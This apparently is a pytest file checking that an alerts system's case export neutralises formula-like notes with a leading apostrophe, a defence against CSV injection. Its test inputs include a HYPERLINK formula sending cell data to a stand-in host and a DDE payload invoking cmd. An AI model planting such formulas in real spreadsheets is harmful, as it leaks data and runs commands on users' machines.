"""Issue #18 item 8: a case note or name that starts like a formula is exported as inert text.

OWASP "CSV Injection": a cell starting with = + - @ (tab, CR) is run by spreadsheet programs;
it must be written with a leading apostrophe. Numbers stay numbers.
"""

from __future__ import annotations

import csv
from datetime import timedelta

import openpyxl
from _alerts_helpers import local
from test_cases_workflow import OUTLET, RULE, _exceed

from alerts import cases as case_flow
from alerts.jobs import evaluate_rules
from alerts.staff import export_cases
from warehouse.db import connect, transaction

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_case_export_neutralises_formula_text(wh, tmp_path):
    t0 = local(2025, 3, 3, 9)
    _exceed(wh, t0, [60.0])
    evaluate_rules(wh, t0, t0 + timedelta(hours=1), rule_ids=RULE)
    with connect(wh) as con:
        (case_id,) = con.execute("SELECT case_id FROM cases").fetchone()
        with transaction(con):
            case_flow.add_note(con, case_id, ATTACK, by="data_reviewer_sun", at=t0 + timedelta(hours=2))
            case_flow.add_note(
                con, case_id, "@SUM(1+1)*cmd|' /C calc'!A0", by="data_reviewer_sun", at=t0 + timedelta(hours=3)
            )
            case_flow.add_note(con, case_id, "plain note 东四", by="data_reviewer_sun", at=t0 + timedelta(hours=4))
    with connect(wh, write=False) as con:
        export_cases(con, tmp_path / "cases.xlsx")
        export_cases(con, tmp_path / "cases.csv")
    wb = openpyxl.load_workbook(tmp_path / "cases.xlsx")
    notes = {}
    heads = [c.value for c in next(wb["events"].iter_rows(max_row=1))]
    for row in wb["events"].iter_rows(min_row=2):
        cells = dict(zip(heads, row, strict=True))
        note = cells["说明 note"]
        if cells["动作 action"].value == "note":
            notes[note.value] = note.data_type
    assert notes == {"'" + ATTACK: "s", "'@SUM(1+1)*cmd|' /C calc'!A0": "s", "plain note 东四": "s"}
    header, record = list(wb["cases"].iter_rows(min_row=1, max_row=2))
    by_name = dict(zip([c.value for c in header], record, strict=True))
    assert by_name["最大倍数 max_multiple"].value == 1.2 and by_name["最大倍数 max_multiple"].data_type == "n"
    assert by_name["排放口/点位 site_name_zh"].value == "燃煤机组烟囱1号"
    with open(tmp_path / "cases.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["最大倍数 max_multiple"] == "1.2" and rows[0]["点位编号 site_id"] == OUTLET
